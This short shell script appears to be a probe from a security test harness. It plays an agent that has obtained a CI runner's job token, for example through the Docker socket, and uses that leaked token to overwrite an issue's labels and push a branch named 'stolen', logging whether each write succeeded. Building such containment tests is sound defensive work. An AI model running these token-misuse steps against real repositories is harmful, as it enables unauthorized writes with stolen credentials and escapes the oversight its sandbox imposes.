#!/bin/sh
# Writes with a token of the job it runs in, as an agent that reached the
# runner's token (through the Docker socket, say) would: a label on its
# issue over the API (replacing its labels), a branch over git. ARGS: the file holding
# "TOKEN API_URL REMOTE_URL" (the test's workflow step leaked them there).
. "$(dirname "$0")/common.sh"
read -r token api remote < "$1"
loot "token ${#token} characters"
repo=$(printf '%s' "${remote#*://*/}" | sed 's/\.git$//')
code=$(curl -s -o /dev/null -w '%{http_code}' -X PUT -H "Authorization: Bearer $token" \
  -H 'Content-Type: application/json' -d '{"labels":["stolen"]}' \
  "$api/repos/$repo/issues/$WARD_ISSUE/labels" 2>/dev/null)
loot "label $code ($api/repos/$repo/issues/$WARD_ISSUE/labels)"
basic=$(printf 'x-access-token:%s' "$token" | base64 | tr -d '\n')
if git -c "http.extraheader=AUTHORIZATION: basic $basic" push --quiet "$remote" HEAD:refs/heads/stolen 2>/dev/null; then
  loot "push accepted"
else
  loot "push refused"
fi
finish
